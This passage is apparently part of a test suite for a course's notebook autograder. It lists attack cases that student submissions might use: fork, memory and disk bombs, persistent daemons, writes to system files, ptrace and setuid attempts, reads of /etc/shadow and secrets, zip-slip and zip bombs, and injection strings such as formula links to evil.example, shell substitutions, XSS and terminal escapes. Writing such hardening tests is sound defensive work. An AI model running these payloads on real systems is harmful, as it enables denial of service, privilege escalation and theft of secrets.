        "import ctypes\nctypes.string_at(0)",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "stack overflow",
        "no grade: the notebook's results are lost with the kernel",
        """
import sys
sys.setrecursionlimit(10**9)
def down(): return [*map(lambda _: down(), [0])]
down()
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "another program in its place",
        "points of tools that look at the exit code: it is another program's",
        'import os\nos.execv("/bin/sh", ["sh", "-c", "exit 0"])',
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "fork bomb",
        "the machine, and with it the grades of the class",
        """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "processes hoarded",
        "other students' points: the user may start no further process or thread",
        """
import os, time
for _ in range(200):
    try:
        if os.fork() == 0:
            time.sleep(10**6)
    except OSError:
        break
time.sleep(10**6)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "thread bomb",
        "other students' points: the user may start no further process or thread",
        """
import threading, time
try:
    for _ in range(10**4):
        threading.Thread(target=time.sleep, args=(10**6,)).start()
except RuntimeError:
    pass
""",
        base="solutions",
        passes=NONE,
        says={"max_pool2d": "error"},
    ),
    Attack(
        "memory bomb",
        "the machine: the system ends whatever it likes, other students' kernels too",
        """
held = []
while True:
    held.append(bytearray(b"x") * (64 << 20))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "memory bomb in many processes",
        "the machine: each process keeps to its limit, all together do not",
        """
import os, time
for _ in range(30):
    if os.fork() == 0:
        held = bytearray(b"x") * (600 << 20)
        time.sleep(10**6)
time.sleep(2)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "memory without an owner",
        "the machine: shared memory counts as nobody's and is found in no limit",
        _BOAST
        + """
import ctypes, mmap, os
libc, got, kept = ctypes.CDLL(None, use_errno=True), 0, []
def fill(make):
    global got
    try:
        for _ in range(40):
            it = make()
            if it is None:
                return
            kept.append(it)
            got += 64
    except (OSError, ValueError):
        pass
def nameless():
    it = mmap.mmap(-1, 64 << 20)
    it.write(b"x" * (64 << 20))
    return it
def memfd():
    it = os.memfd_create("x")
    os.write(it, b"x" * (64 << 20))
    return it
def zero():
    with open("/dev/zero", "r+b") as file:
        it = mmap.mmap(file.fileno(), 64 << 20)
    it.write(b"x" * (64 << 20))
    return it
def segment():
    number = libc.shmget(0, ctypes.c_size_t(64 << 20), 0o1600)
    if number < 0:
        return None
    libc.shmat.restype = ctypes.c_void_p
    ctypes.memset(libc.shmat(number, None, 0), 1, 64 << 20)
    return number
for make in (nameless, memfd, zero, segment):
    fill(make)
if got:
    raise Boast(f"{got} MB of memory that nobody counts")
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "disk filler",
        "the machine's disk, and with it the grades of the class",
        _BOAST
        + """
import os
total = 0
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "/", "/run", "/course", $HOME):
    for number in range(8):
        try:
            with open(f"{folder}/filler{number}", "wb") as file:
                while True:
                    total += file.write(b"x" * (16 << 20))
        except OSError:
            pass
if total > 600 << 20:
    raise Boast(f"{total >> 20} MB on disks")
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "many small files",
        "the machine's disk: no file can be made any more, though there is room",
        _BOAST
        + """
import os
made = 0
for folder in ("/tmp", "/dev/shm", "/var/tmp", "."):
    try:
        for number in range(30_000):
            os.mkdir(f"{folder}/many{number}")
            made += 1
    except OSError:
        pass
if made > 45_000:
    raise Boast(f"{made} folders")
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "files kept open",
        "points of later tasks for nobody: nothing more can be opened",
        """
import os
kept = []
try:
    while True:
        kept.append(os.open("/dev/null", os.O_RDWR))
except OSError:
    os.close(kept.pop()), os.close(kept.pop()), os.close(kept.pop())
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "flood of output",
        "the grader's memory, or a report of gigabytes",
        """
import logging, os, sys
for _ in range(100):
    print("x" * 10**6)
    sys.stderr.write("y" * 10**6)
    sys.__stdout__.write("z" * 10**6)
    logging.error("w" * 10**6)
    os.write(1, b"x" * 10**6)
    os.write(2, b"x" * 10**6)
from IPython.display import HTML, display
display(HTML("<script>alert(1)</script>" * 10**5))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "noise into every file",
        "the points of the next task: the grader's channel carries nonsense",
        """
import os
for number in range(64):
    for noise in (b"\\0\\xff\\n" * 10**4, b"\\x1b[2J" * 10, b'{"state": "done"'):
        try:
            os.write(number, noise)
        except OSError:
            pass
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "flood on the wire",
        "the grader's memory: it keeps what it is told until a line ends",
        _WIRE + "for _ in range(1024): say(b'x' * 2**20)",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "brackets on the wire",
        "the grader's memory: 60 MB of JSON become 5 GB of lists",
        _WIRE + 'say(b"\\n[" + b"[]," * (20 << 20) + b"[]]\\n")',
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "lines on the wire",
        "the grader's time: every line is read, and none is meant",
        _WIRE + 'say(b"\\n{}" * (16 << 20))',
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "everything closed",
        "no grade: the kernel cannot be spoken with",
        "import os\nos.closerange(0, 256)",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "daemon",
        "time after the grading: a process that lives on, and watches the next student",
        """
import os, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.setsid() if os.getpid() != os.getsid(0) else None
        for number in range(300):
            time.sleep(1)
            for path in ($HOME + "/daemon", $REPORT + "/daemon", "/tmp/daemon"):
                try:
                    open(path, "a").write("still here")
                except OSError:
                    pass
        os._exit(0)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "zombies",
        "room in the table of processes: nobody waits for them",
        """
import os
for _ in range(40):
    if os.fork() == 0:
        os._exit(0)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "threads left running",
        "later tasks: the kernel can neither be copied nor ended",
        """
import threading, time
def work():
    while True:
        time.sleep(0.01)
for _ in range(10):
    threading.Thread(target=work, daemon=False).start()
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "things to do at the end",
        "time without end: what ends the kernel runs the student's code once more",
        """
import atexit, gc, sys, threading, time, weakref
def forever(*a): time.sleep(10**6)
class Last:
    __del__ = forever
kept = Last()
atexit.register(forever)
weakref.finalize(kept, forever)
threading._register_atexit(forever) if hasattr(threading, "_register_atexit") else None
sys.last = Last()
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "alarms",
        "the points of later tasks: signals break off what the grader waits for",
        """
import signal
signal.signal(signal.SIGALRM, lambda *a: None)
signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "writes outside",
        "the course, the home and the grades, all of them writable to the kernel",
        _BOAST
        + """
import os, shutil, site, sys
places = [*$SPOILT, "/etc/passwd", "/etc/cron.d/x", "/usr/bin/python3", "/course/x.py",
          $HOME + "/.bashrc", $REPORT + "/grades.csv", torch.__file__, site.__file__,
          sys.executable, "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"]
done = []
def tried(what, call):
    try:
        call()
    except (OSError, shutil.Error):
        return
    done.append(what)
for path in (p for p in places if not p.startswith("/tmp/")):  # that one is its own
    tried(f"write {path}", lambda: open(path, "r+b").write(b"spoilt"))
    tried(f"create {path}.new", lambda: open(path + ".new", "x").write("spoilt"))
    tried(f"unlink {path}", lambda: os.unlink(path))
    tried(f"rename {path}", lambda: os.rename(path, path + ".old"))
    tried(f"chmod {path}", lambda: os.chmod(path, 0o777))
    tried(f"times {path}", lambda: os.utime(path, (0, 0)))
    tried(f"folder {path}", lambda: os.makedirs(path + ".folder"))
for folder in ("/course", os.path.dirname(torch.__file__) + "/_awaits", "/etc"):
    shutil.rmtree(folder, ignore_errors=True)
    if not os.listdir(folder):
        done.append(f"emptied {folder}")
if done:
    raise Boast("; ".join(done))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "links out of the folder",
        "files of the grader, which follows links out of the student's folder",
        _BOAST
        + """
import os
done = []
for number, path in enumerate([*$SPOILT, "/etc/passwd", "/", "/proc/1/root"]):
    for name, call in ((f"soft{number}", os.symlink), (f"hard{number}", os.link)):
        try:
            call(path, name)
            with open(name, "a") as file:
                file.write("spoilt")
            done.append(f"{name} to {path}")
        except OSError:
            pass
os.mkfifo("03_pooling.ipynb")
for kind in (0o020666, 0o060666):
    try:
        os.mknod(f"device{kind}", kind, os.makedev(1, 1))
        done.append("a device")
    except OSError:
        pass
if done:
    raise Boast("; ".join(done))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "looks into other processes",
        "all points: the grader's memory can be read and written",
        _BOAST
        + """
import ctypes, os
libc, done = ctypes.CDLL(None, use_errno=True), []
for pid in {1, os.getppid(), 2}:
    if pid == os.getpid():
        continue
    if libc.ptrace(16, pid, None, None) == 0:
        done.append(f"ptrace {pid}")
    if pid == 1:
        for name in ("mem", "maps", "environ", "root/etc", "cwd", "fd/0", "auxv"):
            path = f"/proc/1/{name}"
            try:
                if name in ("root/etc", "cwd"):
                    os.listdir(path)
                else:
                    open(path, "rb").read(1)
                done.append(path)
            except OSError:
                pass
seen = {int(name) for name in os.listdir("/proc") if name.isdigit()}
if len(seen) > 5:
    done.append(f"processes {sorted(seen)[:20]}")
if done:
    raise Boast("; ".join(done))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "rights taken back",
        "the machine: the grader runs as root, or as the instructor",
        _BOAST
        + """
import ctypes, os, resource, subprocess
libc, done = ctypes.CDLL(None, use_errno=True), []
def tried(what, call, *rest):
    try:
        if call(*rest) in (0, None):
            done.append(what)
    except (OSError, ValueError):
        pass
tried("setuid", os.setuid, 0)
tried("setresuid", os.setresuid, 0, 0, 0)
tried("setgid", os.setgid, 0)
tried("setgroups", os.setgroups, [0])
tried("chroot", os.chroot, "/tmp")
for flags in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x10020000):
    tried(f"unshare {flags:#x}", libc.unshare, flags)
tried("mount", libc.mount, b"tmpfs", b"/tmp", b"tmpfs", 0, None)
tried("mount proc", libc.mount, b"proc", b"/proc", b"proc", 0, None)
tried("umount proc", libc.umount2, b"/proc", 2)
tried("umount tmp", libc.umount2, b"/tmp", 2)
tried("pivot_root", libc.syscall, 155, b"/tmp", b"/tmp")
tried("sethostname", libc.sethostname, b"mine", 4)
def cloned():
    pid = libc.syscall(56, 0x10000011, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return -1 if pid < 0 else 0
tried("clone with a new user", cloned)
tried("keyring", lambda: 0 if libc.syscall(250, 0, -4, 1) > 0 else 1)
tried("core", resource.setrlimit, resource.RLIMIT_CORE, (10**9, 10**9))
tried("memory", resource.setrlimit, resource.RLIMIT_DATA, (2**40, 2**40))
tried("processes", resource.setrlimit, resource.RLIMIT_NPROC, (10**6, 10**6))
tried("nice", lambda: 0 if os.nice(-10) < 5 else 1)
tried("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))
def spared():
    open("/proc/self/oom_score_adj", "w").write("-1000")
tried("spared when memory ends", spared)
for command in ("unshare -Ur true", "sudo -n true", "mount -t tmpfs x /tmp"):
    no = subprocess.DEVNULL
    if subprocess.call(command, shell=True, stdin=no, stdout=no, stderr=no) == 0:
        done.append(command)
if os.getuid() == 0 or os.geteuid() == 0:
    done.append("root")
if done:
    raise Boast("; ".join(done))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "sockets of all kinds",
        "whatever listens on this machine, or on the host of a virtual one",
        _BOAST
        + """
import socket
done = []
for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind) as one:
                if family not in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6):
                    done.append(f"family {family}")
                elif family == socket.AF_INET and kind == socket.SOCK_RAW:
                    done.append("raw")
        except OSError:
            pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
    for host in ("127.0.0.1", "255.255.255.255", "8.8.8.8", "169.254.169.254"):
        try:
            one.sendto(b"x", (host, 53))
            done.append(f"sent to {host}")
        except OSError:
            pass
if done:
    raise Boast("; ".join(done))
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "secrets read",
        "the grader's keys and the class's names, out of files and the environment",
        _BOAST
        + """
import os
done = [f"{k}={v}" for k, v in os.environ.items() if "CANARY" in k or "CANARY" in v]
for path in (*$SPOILT, $HOME, $SCHOOL, $REPORT, "/etc/shadow", "/etc/ssh", "/var/log",
             "/boot", "/sys/class", "/proc/kcore", "/run/lock", "/home", "/root"):
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
    except OSError:
        continue
    if [name for name in found if name != ".pyenv"]:  # where this Python may lie
        done.append(path)
if done:
    raise Boast("; ".join(done)[:250])
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "everything forgotten",
        "later tasks: nothing that they need is where it was",
        """
import os, sys
os.environ.clear()
os.chdir("/")
os.umask(0o777)
sys.path.clear()
sys.argv.clear()
sys.stdin = sys.__stdout__ = sys.__stderr__ = None
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "programs left by the shell",
        "time after the grading: programs that no kernel knows of",
        "!sleep 600 &\n!nohup sleep 600 >/dev/null 2>&1 &\n!setsid sleep 600 &",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "an answer too large",
        "the grader's memory: a tensor of a few bytes that becomes 400 GB when copied",
        base="solutions",
        change=lambda book: book.write(
            "flatten",
            "def flatten(x, start_dim=1):\n    return torch.zeros(1).expand(10**11)",
        ),
        passes=ALL - {"flatten"},
        says={"flatten": "failed"},
    ),
    Attack(
        "an answer without end",
        "the grader's time: a mapping that always has one more entry",
        """
from collections.abc import Mapping
class Endless(Mapping):
    def __len__(self): return 3
    def __iter__(self): return iter(int, 1)
    def __getitem__(self, key): return key
""",
        base="solutions",
        change=lambda book: book.write(
            "flatten", "def flatten(x, start_dim=1):\n    return Endless()"
        ),
        passes=ALL - {"flatten"},
    ),
    Attack(
        "a number too large",
        "the whole notebook of a grader that cannot turn it into a float",
        base="solutions",
        change=lambda book: book.write(
            "flatten", "def flatten(x, start_dim=1):\n    return 10**2000"
        ),
        passes=ALL - {"flatten"},
        says={"flatten": "failed"},
    ),
    Attack(
        "error that hurts",
        "whoever reads the report: a formula, a script, a terminal that is steered",
        """
def hurt(*args):
    name = "=HYPERLINK('http://evil.example')"
    raise type(name, (Exception,), {})(
        "<script>alert(1)</script>\\x1b]0;title\\x07\\x1b[2J\\r\\n=1+1\\u202e\\ud800\\0")
""",
        lie="hurt()",
        says={"flatten": "error"},
    ),
    Attack(
        "error without end",
        "the grader's time: the text of the error is never finished",
        """
class Endless(Exception):
    def __str__(self): return "".join(iter(str, 1))
    __repr__ = __str__
raise Endless
""",
        base="solutions",
        passes=ALL,
    ),
    Attack(
        "a thousand cells",
        "the grader's time: each cell costs a copy of the process",
        base="solutions",
        change=lambda book: (
            [book.add(FIRST, f"x{i} = {i}") for i in range(1000)] and None
        ),
        passes=ALL,
    ),
    Attack(
        "names lost, and a long chain",
        "the grades of the class: what reads the code runs out of stack",
        base="solutions",
        change=lambda book: _strange(book, "if 0: pass\n" + "elif 0: pass\n" * 1500),
        passes=ALL,
    ),
    Attack(
        "names lost, and a line of spaces",
        "the grader's time: a search for names takes the square of its length",
        base="solutions",
        change=lambda book: _strange(book, "a:" + " " * 10**6 + "\n("),
        passes=ALL,
    ),
    Attack(
        "names lost, and megabytes of code",
        "the grader's memory: the tree of a text is 600 times as large",
        base="solutions",
        change=lambda book: _strange(book, f"x = 1  # {'y' * 80}\n" * 500_000),
        passes=ALL,
    ),
    Attack(
        "megabytes of output",
        "the grader's memory, and a report of as many megabytes",
        base="solutions",
        change=lambda book: _outputs(book, "✗ {}: " + "<b>\x1b" * 2_000_000),
        passes=ALL,
    ),
    Attack(
        "hostile text everywhere",
        "whoever reads the report: scripts, pictures from elsewhere, steered terminals",
        base="wrong",
        change=lambda book: _hostile_text(book),
    ),
]


def _strange(book: Book, code: str) -> None:
    """Add a strange cell; lose ids and marks, so that names have to be looked for."""
    book.add(FIRST, code)
    book.forget()


def _hostile_text(book: Book) -> None:
    hurt = (
        '"""</script><img src=x onerror=alert(1)>\x1b]0;t\x07\u202e{{7*7}}'
        '=cmd|\' /C calc\'!A0"""\n'
    )
    for task in TASKS:
        book.write(task, hurt + WRONG[task])
    book.add(FIRST, hurt)
    book.add(0, hurt, cell_type="markdown", metadata={"tags": [hurt, {}]})
    book.raw["metadata"]["title"] = book.raw["metadata"]["authors"] = hurt
    book.raw["metadata"]["cnnlib"]["version"] = hurt * 100
    _outputs(book, hurt)


# ---- files that are no notebooks, or somebody else's ---------------------------------


def _raw(data: bytes) -> Callable[[Path, World], None]:
    def write(folder: Path, world: World) -> None:
        folder.mkdir()
        (folder / FILE).write_bytes(data)

    return write


def _like(change: Callable[[dict], object]) -> Callable[[Path, World], None]:
    """Return what writes the solved notebook, its JSON changed."""

    def write(folder: Path, world: World) -> None:
        raw = Book("solutions").raw
        change(raw)
        folder.mkdir()
        (folder / FILE).write_text(json.dumps(raw))

    return write


def _link(target: str) -> Callable[[Path, World], None]:
    def write(folder: Path, world: World) -> None:
        folder.mkdir()
        (folder / FILE).symlink_to(target)

    return write


def _hard_link(folder: Path, world: World) -> None:
    folder.symlink_to("anna", target_is_directory=True)


def _fifo(folder: Path, world: World) -> None:
    folder.mkdir()
    os.mkfifo(folder / FILE)


def _zip(names: list[str], data: bytes, link: bool = False) -> Callable:
    def write(folder: Path, world: World) -> None:
        folder.mkdir()
        with zipfile.ZipFile(folder / "work.zip", "w", zipfile.ZIP_DEFLATED) as packed:
            for name in names:
                member = zipfile.ZipInfo(name)
                member.compress_type = zipfile.ZIP_DEFLATED
                member.external_attr = (0o120777 if link else 0o100644) << 16
                packed.writestr(member, data)

    return write


_SOLVED = json.dumps(Book("solutions").raw).encode()

FILES = [
    Attack("binary junk", "no grade for the class", file=_raw(bytes(range(256)) * 999)),
    Attack("empty file", "no grade for the class", file=_raw(b"")),
    Attack("not JSON", "no grade for the class", file=_raw(_SOLVED[:-50])),
    Attack("web page", "no grade for the class", file=_raw(b"<!DOCTYPE html>" * 99)),
    Attack("UTF-16", "no grade", file=_raw(_SOLVED.decode().encode("utf-16"))),
    Attack("deep JSON", "the grader's stack", file=_raw(b"[" * 10**6)),
    Attack("many parts", "the memory", file=_raw(b"[" + b"0," * 4_000_000 + b"0]")),
    Attack("huge number", "time", file=_raw(b'{"nbformat": ' + b"9" * 10**5 + b"}")),
    Attack("a list", "no grade", file=_raw(b"[" + _SOLVED + b"]")),
    Attack(
        "cells of numbers", "no grade", file=_like(lambda r: r.update(cells=[1, 2]))
    ),
    Attack("no cells", "no grade", file=_like(lambda r: r.update(cells={"a": 1}))),
    Attack(
        "sources of numbers",
        "no grade for the class",
        file=_like(lambda raw: [c.update(source=7, outputs=7) for c in raw["cells"]]),
    ),
    Attack(
        "metadata of numbers",
        "no grade for the class",
        file=_like(lambda raw: [c.update(metadata=7, id=7) for c in raw["cells"]]),
        passes=ALL,
    ),
    Attack(
        "null bytes",
        "no grade for the class",
        file=_like(lambda raw: raw["cells"].insert(3, _cell("\0\ud800"))),
        passes=ALL,
    ),
    Attack(
        "deep metadata",
        "the grader's stack",
        file=_like(lambda raw: raw["metadata"].update(a=_deep(400))),
        passes=ALL,
    ),
    Attack(
        "somebody's file", "anna's points", file=_link(f"../anna/{FILE}"), graded=False
    ),
    Attack("somebody's folder", "anna's points", file=_hard_link, graded=False),
    Attack("a system's file", "its text", file=_link("/etc/passwd"), graded=False),
    Attack("a pipe", "time: it is never read to its end", file=_fifo, graded=False),
    Attack(
        "zip that leads out",
        "files anywhere",
        file=_zip([f"../{FILE}", f"/tmp/{FILE}", "../../x.ipynb"], _SOLVED),
        graded=False,
    ),
    Attack(
        "zip with links",
        "anna's points",
        file=_zip([FILE], f"../anna/{FILE}".encode(), link=True),
        graded=False,
    ),
    Attack(
        "zip bomb", "the disk", file=_zip([FILE], b"\0" * 200_000_000), graded=False
    ),
]


def _cell(source: str) -> dict:
    return {"cell_type": "code", "id": "x", "metadata": {}, "outputs": [],
            "source": source}  # fmt: skip


def _deep(depth: int) -> list:
    return [_deep(depth - 1)] if depth else []


# ---- names that mean harm; the answers are right -------------------------------------

NAMES = [
    Attack(name, "whoever reads or opens the report", base="solutions", passes=ALL)
    for name in (
        "=HYPERLINK('http:evil.example')",
        "+1",
        "-rf",
        "@SUM(1)",
        "quote\" and 'quotes'",
        "new\nline\r\nand more",
        "comma, semicolon; tab\t=1",
        "<img src=x onerror=alert(1)>",
        "up..%2f..%2fetc%2fpasswd",
        "up\\..\\..\\up",
        "\u202egnp.exe\u2066",
        "\U0001f98a \u200d\ufe0f",
        "n" * 200,
        "\x1b[2J\x1b]0;title\x07",
        "$(touch x) `touch y` ; touch z",
        "{{ 7 * 7 }}{% x %}",
        "con",
        os.fsdecode(b"\xff\xfe not UTF-8"),
    )
]

ATTACKS = [*CHEATS, *HARMS, *FILES, *NAMES]
